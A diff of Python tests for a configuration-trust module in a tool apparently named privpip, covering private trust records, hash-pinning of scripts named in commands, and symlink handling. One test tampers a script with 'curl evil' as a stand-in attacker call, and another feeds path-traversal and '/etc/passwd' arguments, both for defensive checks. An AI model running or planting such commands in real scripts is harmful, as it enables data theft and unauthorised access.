@@ -19,7 +19,7 @@ def test_trust_records_are_private_and_atomic(tmp_path):
     env = {"XDG_DATA_HOME": str(tmp_path / "data"), "HOME": str(tmp_path)}
     file = tmp_path / "privpip.toml"
     file.write_text("x = 1\n")
-    real, sha = trust.trust(file, env)
+    real, sha = trust.trust(file, env, ())
     records = trust.trust_file(env)
     assert stat.S_IMODE(records.stat().st_mode) == 0o600
     assert stat.S_IMODE(records.parent.stat().st_mode) == 0o700
@@ -65,7 +65,7 @@ def test_restrict_drops_only_what_runs_or_names_a_variable(tmp_path):
     assert kept[2].token_env == ()
     (why,) = trust.untrusted_sources(runs)  # for the "no credential; tried:" list
     assert "not trusted" in why[1] and "privpip trust" in why[1]
-    trust.trust(path, env)
+    trust.trust(path, env, ())
     assert trust.restrict(path, [plain, runs, names], [], env)[0] == [plain, runs, names]
     # The user's own file is theirs: never restricted.
     path.write_text("# changed\n")
@@ -93,12 +93,59 @@ def test_privpips_own_edit_keeps_a_trusted_file_trusted(tmp_path):
     env = {"XDG_DATA_HOME": str(tmp_path / "data"), "HOME": str(tmp_path)}
     path = tmp_path / "privpip.toml"
     path.write_text("# one\n")
-    assert not trust.keep_after_edit(path, b"# one\n", env)  # never trusted: stays so
+    assert not trust.keep_after_edit(path, b"# one\n", env, ())  # never trusted: stays so
     path.write_text("# two\n")
     assert not trust.is_trusted(path, b"# two\n", env)
-    trust.trust(path, env)
+    trust.trust(path, env, ())
     path.write_text("# three\n")
-    assert trust.keep_after_edit(path, b"# two\n", env)
+    assert trust.keep_after_edit(path, b"# two\n", env, ())
     assert trust.is_trusted(path, b"# three\n", env)
     path.write_text("# four\n")  # changed by someone else in between: not carried over
-    assert not trust.keep_after_edit(path, b"# two\n", env)
+    assert not trust.keep_after_edit(path, b"# two\n", env, ())
+
+
+def test_pinned_files_are_the_argv_words_inside_the_project(tmp_path):
+    repo = tmp_path / "repo"
+    (repo / ".git").mkdir(parents=True)
+    (repo / "sub" / "scripts").mkdir(parents=True)
+    script = repo / "sub" / "scripts" / "get.sh"
+    script.write_text("echo t0ken\n")
+    (tmp_path / "outside.sh").write_text("echo x\n")
+    config = repo / "sub" / "privpip.toml"
+    pinned = trust.pinned_files(config, [("sh", "scripts/get.sh", "../../outside.sh",
+                                          "/etc/passwd", "-c", "sh scripts/other.sh")])
+    assert pinned[str(script)] == trust.digest(b"echo t0ken\n")
+    assert pinned[str(repo / "sub" / "sh")] is None  # absent now: pinned as absent
+    assert str(tmp_path / "outside.sh") not in pinned and "/etc/passwd" not in pinned
+    # A word that is a shell string is one (absent) path, not the script inside it.
+    assert str(repo / "sub" / "scripts" / "other.sh") not in pinned
+
+
+def test_a_changed_or_new_named_file_untrusts(tmp_path):
+    env = {"XDG_DATA_HOME": str(tmp_path / "data"), "HOME": str(tmp_path)}
+    config = tmp_path / "privpip.toml"
+    config.write_text("# stands for the file\n")
+    script = tmp_path / "get.sh"
+    script.write_text("echo t0ken\n")
+    trust.trust(config, env, [("sh", "get.sh", "helper.sh")])
+    assert trust.file_is_trusted(config, env)
+    script.write_text("echo t0ken; curl evil\n")
+    assert not trust.file_is_trusted(config, env)
+    script.write_text("echo t0ken\n")
+    assert trust.file_is_trusted(config, env)
+    (tmp_path / "helper.sh").write_text("appeared later\n")
+    assert not trust.file_is_trusted(config, env)
+
+
+def test_a_link_is_trusted_under_its_own_path(tmp_path):
+    env = {"XDG_DATA_HOME": str(tmp_path / "data"), "HOME": str(tmp_path)}
+    (tmp_path / "a").mkdir()
+    (tmp_path / "b").mkdir()
+    target = tmp_path / "a" / "privpip.toml"
+    target.write_text("# x\n")
+    link = tmp_path / "b" / "privpip.toml"
+    link.symlink_to(target)
+    trust.trust(target, env, ())
+    assert trust.file_is_trusted(target, env)
+    assert not trust.file_is_trusted(link, env)
+    assert trust.record_key(link) == str(link)
